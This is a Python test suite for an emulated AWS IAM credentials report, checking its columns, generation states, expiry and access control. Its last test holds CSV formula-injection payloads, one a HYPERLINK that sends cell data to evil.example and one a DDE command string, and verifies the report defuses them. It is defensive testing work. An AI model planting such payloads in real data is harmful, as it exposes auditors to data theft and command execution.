"""The credentials report through boto3 and the AWS CLI: AWS's header column by column,
AWS's values for a user with nothing, a user with a password, two keys and MFA, and the
root; generation as AWS runs it (STARTED, then COMPLETE, reused for four hours) and AWS's
errors (ReportNotPresent, ReportInProgress, ReportExpired); who may generate and read it."""

from __future__ import annotations

import asyncio
import base64
import csv
import io
import time
from typing import Any

import pytest
from botocore.exceptions import ClientError

from broker.service.credential_report import KIND
from broker.storage.base import ReportJob
from tests.iam.conftest import IamEnv, call, error_code
from tests.iam.users_support import audit, browser, local_login, store, users_env
from tests.sts.conftest import ACCOUNT
from tests.support.credentials import insert_access_key, insert_mfa_device

__all__ = ["users_env"]

PASSWORD = "a long enough password 1"

#: AWS's columns, in order, as the IAM User Guide documents them ("Getting credential reports
#: for your AWS account", section "Understanding the report format":
#: https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_getting-report.html).
AWS_DOCUMENTED_HEADER = [
    "user",
    "arn",
    "user_creation_time",
    "password_enabled",
    "password_last_used",
    "password_last_changed",
    "password_next_rotation",
    "mfa_active",
    "access_key_1_active",
    "access_key_1_last_rotated",
    "access_key_1_last_used_date",
    "access_key_1_last_used_region",
    "access_key_1_last_used_service",
    "access_key_2_active",
    "access_key_2_last_rotated",
    "access_key_2_last_used_date",
    "access_key_2_last_used_region",
    "access_key_2_last_used_service",
    "cert_1_active",
    "cert_1_last_rotated",
    "cert_2_active",
    "cert_2_last_rotated",
]
NO_KEY = ["false", "N/A", "N/A", "N/A", "N/A"]
NO_CERTS = ["false", "N/A", "false", "N/A"]


def parse(content: bytes) -> tuple[list[str], dict[str, list[str]]]:
    """The header and the rows by user name, with Python's ``csv``."""
    header, *rows = list(csv.reader(io.StringIO(content.decode("utf-8"))))
    by_user = {row[0]: row for row in rows}
    assert len(by_user) == len(rows)
    return header, by_user


def iso(t: float) -> str:
    return time.strftime("%Y-%m-%dT%H:%M:%S+00:00", time.gmtime(t))


async def refused(client: Any, op: str, **kw: Any) -> tuple[str, int]:
    with pytest.raises(ClientError) as e:
        await call(client, op, **kw)
    return error_code(e.value), e.value.response["ResponseMetadata"]["HTTPStatusCode"]


async def generated(client: Any) -> list[str]:
    """Generate until COMPLETE; the states seen."""
    states = []
    for _ in range(200):
        states.append((await call(client, "generate_credential_report"))["State"])
        if states[-1] == "COMPLETE":
            return states
        await asyncio.sleep(0.05)
    raise AssertionError(f"never COMPLETE: {states[-5:]}")


async def test_report_has_aws_columns_and_values(users_env: IamEnv) -> None:
    env = users_env
    iam = await env.client("admin")
    assert await refused(iam, "get_credential_report") == ("ReportNotPresent", 410)
    await call(iam, "create_user", UserName="nothing")
    await call(iam, "create_user", UserName="carol")
    before = time.time()
    await call(iam, "create_login_profile", UserName="carol", Password=PASSWORD)
    async with browser() as s:
        assert (await local_login(s, env, "carol", PASSWORD))[0] == 303
    carol = (await store(env).find_users_by_name("carol"))[0]
    assert carol.password_changed_at is not None
    assert before <= carol.password_changed_at <= time.time()
    assert carol.last_login_at is not None
    t = int(time.time()) - 1000.0
    await insert_access_key(store(env), carol.id, "AKIAOLD", status="Inactive", created_at=t)
    await insert_access_key(
        store(env),
        carol.id,
        "AKIANEW",
        created_at=t + 10,
        last_used_at=t + 20,
        region="us-east-1",
        service="sts",
    )
    await insert_mfa_device(
        store(env),
        f"arn:broker:iam::{ACCOUNT}:mfa/carol",
        user_id=carol.id,
        enabled_at=t,
        created_at=t,
    )

    states = await generated(iam)
    assert states[0] == "STARTED"
    assert set(states[1:-1]) <= {"INPROGRESS"}
    got = await call(iam, "get_credential_report")
    assert got["ReportFormat"] == "text/csv"
    assert abs(got["GeneratedTime"].timestamp() - time.time()) < 60
    header, rows = parse(got["Content"])  # boto3 decoded the base64
    assert len(header) == len(AWS_DOCUMENTED_HEADER)
    for i, (ours, aws) in enumerate(zip(header, AWS_DOCUMENTED_HEADER, strict=True)):
        assert ours == aws, f"column {i}: {ours!r} != AWS's {aws!r}"
    assert next(iter(rows)) == "<root_account>"  # the root's row first, as in AWS

    nothing = (await store(env).find_users_by_name("nothing"))[0]
    assert rows["nothing"] == [
        "nothing",
        env.arn("user", "nothing"),
        iso(nothing.created_at),
        "false",  # password_enabled
        "N/A",  # password_last_used: no password
        "N/A",  # password_last_changed: no password
        "N/A",  # password_next_rotation: no rotation policy
        "false",  # mfa_active
        *NO_KEY,
        *NO_KEY,
        *NO_CERTS,
    ]
    assert carol.last_login_at is not None
    assert rows["carol"] == [
        "carol",
        env.arn("user", "carol"),
        iso(carol.created_at),
        "true",
        iso(carol.last_login_at),
        iso(carol.password_changed_at),
        "N/A",
        "true",
        # key 1 is the older one: Inactive, never used
        "false",
        iso(t),
        "N/A",
        "N/A",
        "N/A",
        # key 2: Active and used
        "true",
        iso(t + 10),
        iso(t + 20),
        "us-east-1",
        "sts",
        *NO_CERTS,
    ]
    admin = (await store(env).find_users_by_name("admin"))[0]  # bootstrapped, never signed in
    assert rows["admin"][3:6] == ["true", "no_information", iso(admin.created_at)]
    assert rows["<root_account>"] == [
        "<root_account>",
        f"arn:broker:iam::{ACCOUNT}:root",
        iso(admin.created_at),  # the account's start: its first user
        "not_supported",
        "N/A",
        "not_supported",
        "not_supported",
        "false",
        *NO_KEY,
        *NO_KEY,
        *NO_CERTS,
    ]
    # within four hours the report is reused: no new generation
    assert (await call(iam, "generate_credential_report"))["State"] == "COMPLETE"
    again = await call(iam, "get_credential_report")
    assert again["GeneratedTime"] == got["GeneratedTime"]
    events = await audit(env, "report.credentials")
    assert [e.outcome for e in events] == ["success"]
    assert PASSWORD not in got["Content"].decode()


async def test_report_with_the_aws_cli(users_env: IamEnv) -> None:
    env = users_env
    creds = await env.credentials("admin")
    await call(await env.client("admin"), "create_user", UserName="nothing")
    code, out, err = await env.aws(creds, "iam", "get-credential-report")
    assert code != 0
    assert "ReportNotPresent" in err
    for _ in range(200):
        code, out, err = await env.aws(creds, "iam", "generate-credential-report")
        assert code == 0, err
        if out["State"] == "COMPLETE":
            break
        await asyncio.sleep(0.05)
    assert out["State"] == "COMPLETE"
    code, out, err = await env.aws(creds, "iam", "get-credential-report")
    assert code == 0, err
    assert out["ReportFormat"] == "text/csv"
    header, rows = parse(base64.b64decode(out["Content"]))  # the CLI prints the base64
    assert header == AWS_DOCUMENTED_HEADER
    assert rows["nothing"][3:8] == ["false", "N/A", "N/A", "N/A", "false"]


async def test_in_progress_and_expired_reports(users_env: IamEnv) -> None:
    env = users_env
    iam = await env.client("admin")
    subject = env.broker.settings.server.account_id
    now = time.time()
    # another instance is generating: no second generation, and nothing to read yet
    job, started = await store(env).start_report_job(
        ReportJob("other-instance", KIND, subject, "INPROGRESS", now),
        reuse_since=now - 4 * 3600,
        running_since=now - 900,
    )
    assert started
    assert (await call(iam, "generate_credential_report"))["State"] == "INPROGRESS"
    assert await refused(iam, "get_credential_report") == ("ReportInProgress", 404)
    # a report older than four hours has expired; generating replaces it
    old = now - 4 * 3600 - 60
    job, started = await store(env).start_report_job(
        ReportJob("five-hours-ago", KIND, subject, "INPROGRESS", old),
        reuse_since=now,
        running_since=now + 1,  # (the other instance's job is replaced)
    )
    assert started
    await store(env).finish_report_job(job.job_id, content=b"\x1f\x8b", now=old)
    assert await refused(iam, "get_credential_report") == ("ReportExpired", 410)
    assert (await generated(iam))[0] == "STARTED"
    got = await call(iam, "get_credential_report")
    assert got["GeneratedTime"].timestamp() > now - 60
    assert parse(got["Content"])[0] == AWS_DOCUMENTED_HEADER


async def test_who_may_generate_and_read_the_report(users_env: IamEnv) -> None:
    env = users_env
    reader = await env.client("reader")  # iam:Get* and iam:List*
    nobody = await env.client("nobody")
    assert (await refused(reader, "generate_credential_report"))[0] == "AccessDenied"
    assert (await refused(nobody, "generate_credential_report"))[0] == "AccessDenied"
    assert await generated(await env.client("admin"))
    assert (await call(reader, "get_credential_report"))["ReportFormat"] == "text/csv"
    assert (await refused(nobody, "get_credential_report"))[0] == "AccessDenied"
    failures = await audit(env, "iam.GenerateCredentialReport")
    assert [e.outcome for e in failures] == ["failure", "failure"]


async def test_formulas_from_outside_are_not_run_by_a_spreadsheet(users_env: IamEnv) -> None:
    """The attack: a federated user's name is whatever its identity provider says, and an
    access key's last-used region whatever its signer put in the credential scope; an auditor
    opening the report in a spreadsheet must not run them as formulas."""
    env = users_env
    evil = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    user = await store(env).upsert_federated_user(
        "fake", "mallory", name=evil, email="", groups=(), now=time.time()
    )
    await insert_access_key(
        store(env),
        user.id,
        "AKIAEVIL",
        created_at=time.time(),
        last_used_at=time.time(),
        region="@SUM(1+1)*cmd|' /C calc'!A0",
        service="-2+3",
    )
    iam = await env.client("admin")
    await generated(iam)
    _, rows = parse((await call(iam, "get_credential_report"))["Content"])
    row = rows["'" + evil]  # the name, kept whole, behind a quote
    assert row[1] == env.arn("user", evil)  # an ARN starts with "arn:": as it is
    assert row[8:13] == [
        "true",
        row[9],
        row[10],
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'-2+3",
    ]
    for cell in (c for r in rows.values() for c in r):
        assert not cell.startswith(("=", "+", "-", "@")), cell
